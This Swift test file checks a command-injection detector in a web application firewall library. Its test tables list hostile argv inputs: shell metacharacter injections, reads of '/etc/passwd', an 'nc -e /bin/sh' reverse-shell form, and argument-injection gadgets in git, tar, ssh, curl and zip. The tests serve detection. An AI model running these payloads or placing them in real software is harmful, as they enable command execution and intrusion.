import Testing
@testable import RampartWAF

struct ArgvCase: CustomTestStringConvertible, Sendable {
    var arguments: [String]
    var parameter: String
    var testDescription: String { "\(arguments) ← \(parameter)" }
    init(_ arguments: [String], _ parameter: String) {
        self.arguments = arguments
        self.parameter = parameter
    }
}

@Suite struct CommandInjectionDetectorTests {

    static let injectionCases: [ArgvCase] = [
        ArgvCase(["sh", "-c", "ping -c 1 8.8.8.8; id"], "8.8.8.8; id"),
        ArgvCase(["bash", "-c", "echo $(cat /etc/passwd)"], "$(cat /etc/passwd)"),
        ArgvCase(["/bin/sh", "-c", "ping `id`"], "`id`"),
        ArgvCase(["/bin/bash", "-lc", "ping x && id"], "x && id"),
        ArgvCase(["bash", "-ec", "ping x | nc h 1"], "x | nc h 1"),
        ArgvCase(["bash", "--norc", "-c", "ping x;id"], "x;id"),
        ArgvCase(["bash", "-o", "pipefail", "-c", "ping x;id"], "x;id"),
        ArgvCase(["dash", "-c", "ls a b"], "a b"),
        ArgvCase(["zsh", "-c", "ls\nid"], "ls\nid"),
        ArgvCase(["busybox", "sh", "-c", "ping x; id"], "x; id"),
        ArgvCase(["/usr/bin/env", "sh", "-c", "ping x; id"], "x; id"),
        ArgvCase(["env", "-i", "PATH=/bin", "bash", "-c", "ping x; id"], "x; id"),
        ArgvCase(["sudo", "-u", "www", "sh", "-c", "ping x; id"], "x; id"),
        ArgvCase(["timeout", "5", "sh", "-c", "ping x; id"], "x; id"),
        ArgvCase(["nohup", "bash", "-c", "ping x > /tmp/o"], "x > /tmp/o"),
        ArgvCase(["sh", "-c", "ping 'x'; id; ''"], "x'; id; '"),
        ArgvCase(["sh", "-c", "whoami"], "whoami"),
        ArgvCase(["sh", "-c", "id", "name", "arg"], "id"),
        ArgvCase(["cmd.exe", "/c", "ping", "-n", "1", "x & whoami"], "x & whoami"),
        ArgvCase(["C:\\Windows\\System32\\cmd.exe", "/C", "ping x && whoami"], "x && whoami"),
        ArgvCase(["cmd", "/c", "type %USERPROFILE%"], "%USERPROFILE%"),
        ArgvCase(["powershell", "-Command", "Get-Item x; Remove-Item y"], "x; Remove-Item y"),
        ArgvCase(["powershell.exe", "-NoProfile", "-c", "Get-Item $(whoami)"], "$(whoami)"),
        ArgvCase(["pwsh", "-ExecutionPolicy", "Bypass", "-Command", "echo x | iex"], "x | iex"),
        ArgvCase(["id"], "id"),
        ArgvCase(["/usr/bin/whoami"], "whoami"),
        ArgvCase(["/usr/local/bin/python3", "x.py"], "python3"),
        ArgvCase(["/usr/bin/" + "nc", "-e", "/bin/sh"], "nc"),
        ArgvCase(["env", "curl", "http://x"], "curl"),
        ArgvCase(["sh", "payload.sh"], "payload.sh"),
        ArgvCase(["bash", "/tmp/uploads/evil.sh"], "evil.sh"),
        ArgvCase(["git", "clone", "--upload-pack=touch /tmp/pwned", "repo"], "--upload-pack=touch /tmp/pwned"),
        ArgvCase(["git", "ls-remote", "--upload-pack", "x"], "--upload-pack"),
        ArgvCase(["git", "fetch", "-utouch /tmp/x", "origin"], "-utouch /tmp/x"),
        ArgvCase(["tar", "cf", "a.tar", "--checkpoint-action=exec=sh x.sh", "f"], "--checkpoint-action=exec=sh x.sh"),
        ArgvCase(["tar", "xf", "a.tar", "--to-command=sh"], "--to-command=sh"),
        ArgvCase(["find", ".", "-name", "x", "-exec", "id", ";"], "-exec"),
        ArgvCase(["ssh", "-oProxyCommand=id", "host"], "-oProxyCommand=id"),
        ArgvCase(["scp", "-oProxyCommand=id", "a", "b"], "-oProxyCommand=id"),
        ArgvCase(["curl", "--output=/var/www/shell.php", "http://x"], "--output=/var/www/shell.php"),
        ArgvCase(["curl", "-o/var/www/shell.php", "http://x"], "-o/var/www/shell.php"),
        ArgvCase(["wget", "--execute=robots=off", "http://x"], "--execute=robots=off"),
        ArgvCase(["rsync", "-eid", "a", "b"], "-eid"),
        ArgvCase(["zip", "out.zip", "f", "-TTsh -c id"], "-TTsh -c id"),
        ArgvCase(["python3", "-cimport os;os.system('id')"], "-cimport os;os.system('id')"),
    ]

    static let benignCases: [ArgvCase] = [
        ArgvCase(["/usr/bin/ping", "-c", "1", "8.8.8.8; cat /etc/passwd"], "8.8.8.8; cat /etc/passwd"),
        ArgvCase(["/usr/bin/ping", "-c", "1", "x && id"], "x && id"),
        ArgvCase(["/usr/bin/ping", "-c", "1", "`id`"], "`id`"),
        ArgvCase(["/usr/bin/ping", "-c", "1", "$(id)"], "$(id)"),
        ArgvCase(["/usr/bin/ping", "-c", "1", "-c"], "-c"),
        ArgvCase(["/usr/bin/git", "clone", "-c"], "-c"),
        ArgvCase(["/usr/bin/git", "clone", "x && id"], "x && id"),
        ArgvCase(["/usr/bin/git", "clone", "https://example.com/repo.git"], "https://example.com/repo.git"),
        ArgvCase(["/usr/bin/git", "log", "--author=Jane"], "Jane"),
        ArgvCase(["/usr/bin/git", "log", "--author=Jane"], "--author=Jane"),
        ArgvCase(["git", "clone", "--depth=1", "https://x/r.git"], "--depth=1"),
        ArgvCase(["git", "clone", "-u"], "-u"),
        ArgvCase(["convert", "a;b.png", "out.png"], "a;b.png"),
        ArgvCase(["convert", "my photo.png", "out.png"], "my photo.png"),
        ArgvCase(["sh", "-c", "ping -c 1 \"$1\"", "sh", "x; id"], "x; id"),
        ArgvCase(["sh", "-c", "ping -c 1 '8.8.8.8; id'"], "8.8.8.8; id"),
        ArgvCase(["bash", "-c", "echo \"$(date)\" 'x && y'"], "x && y"),
        ArgvCase(["sh", "-c", "ping -c 1 8.8.8.8"], "8.8.8.8"),
        ArgvCase(["sh", "script.sh", "x; id"], "x; id"),
        ArgvCase(["sh", "-e", "script.sh", "a b"], "a b"),
        ArgvCase(["cmd.exe", "/c", "ping", "\"x & whoami\""], "x & whoami"),
        ArgvCase(["powershell", "-Command", "Get-Item 'x; y'"], "x; y"),
        ArgvCase(["env", "FOO=x; id", "printenv", "FOO"], "x; id"),
        ArgvCase(["sudo", "-u", "www", "ls", "a;b"], "a;b"),
        ArgvCase(["find", ".", "-name", "-exec"], "-name"),
        ArgvCase(["tar", "cf", "out.tar", "--verbose"], "--verbose"),
        ArgvCase(["ssh", "host", "-oProxyCommand=id"], "host"),
        ArgvCase(["curl", "-s", "https://example.com/a b"], "https://example.com/a b"),
        ArgvCase(["ls", "-la"], "-la"),
        ArgvCase(["/usr/bin/ping", "8.8.8.8"], "ping -c"),
        ArgvCase(["/usr/bin/ping", "8.8.8.8"], "usr"),
        ArgvCase(["/usr/bin/ping", "8.8.8.8"], "/usr/bin/"),
        ArgvCase(["ping", "--", "-oProxyCommand=id"], "--"),
        ArgvCase([], "x; id"),
        ArgvCase([""], "x; id"),
    ]

    @Test(arguments: injectionCases)
    func injection(_ testCase: ArgvCase) throws {
        let finding = try #require(CommandInjectionDetector.detect(
            arguments: testCase.arguments, parameters: RaspTestSupport.query(testCase.parameter)))
        #expect(finding.detector == "cmdi_detector")
        #expect(finding.parameter.value == testCase.parameter)
        let location = try #require(finding.location)
        #expect(Array(finding.operation.utf8)[location] == Array(testCase.parameter.utf8)[...])
    }

    @Test(arguments: benignCases)
    func benign(_ testCase: ArgvCase) {
        let finding = CommandInjectionDetector.detect(arguments: testCase.arguments, parameters: RaspTestSupport.query(testCase.parameter))
        #expect(finding == nil, "\(finding?.reason ?? "")")
    }

    @Test func shellScriptReasonNamesTheShell() throws {
        let finding = try #require(CommandInjectionDetector.detect(
            arguments: ["/bin/bash", "-c", "ls x; id"], parameters: RaspTestSupport.query("x; id")))
        #expect(finding.reason.hasPrefix("in the script run by `bash`"))
    }

    @Test func programInvocationUnwrapsWrappers() {
        let invocation = ProgramInvocation(arguments: ["env", "-u", "HOME", "A=1", "busybox", "sh", "-c", "x"])
        #expect(invocation.programName == "sh")
        #expect(invocation.programIndices == [0, 4, 5])
        #expect(invocation.script?.firstIndex == 7)
        #expect(ProgramInvocation(arguments: ["sh", "-c"]).script == nil)
        #expect(ProgramInvocation(arguments: ["sh", "-x", "file.sh"]).script == nil)
        #expect(ProgramInvocation(arguments: ["env"]).programName == "env")
    }
}
